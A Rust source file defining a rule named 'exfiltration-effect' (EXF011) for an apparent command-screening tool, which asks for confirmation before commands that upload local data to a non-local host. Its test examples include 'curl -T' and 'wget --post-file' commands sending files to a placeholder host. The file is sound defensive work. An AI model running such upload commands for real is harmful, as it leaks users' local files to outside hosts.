//! Any program, subcommand or flag whose spec says it sends local data out
//! (`curl -T`, `wget --post-file`).
//!
//! Inspects every command: the knowledge is in the program specs.

use crate::rules::prelude::*;
use crate::rules::shared::transfer::only_local_destinations;

pub(crate) static RULE: Rule = Rule {
    code: "EXF011",
    name: "exfiltration-effect",
    category: Category::Exfiltration,
    decision: Decision::Ask,
    commands: &[],
    summary: "sends local data to another host",
    why: "The program's job here is to upload local content.",
    check,
    fires: &["curl -T notes.txt https://x.example.com/", "sudo wget --post-file=a.json https://x.example.com"],
    passes: &["curl -sL https://example.com", "curl -T a.txt http://localhost:8000/"],
};

fn check(cmd: &Command, _cx: &Context<'_>) -> Option<Hit> {
    if only_local_destinations(cmd) {
        return None;
    }
    effect_hit(cmd, Effect::Exfiltration)
}
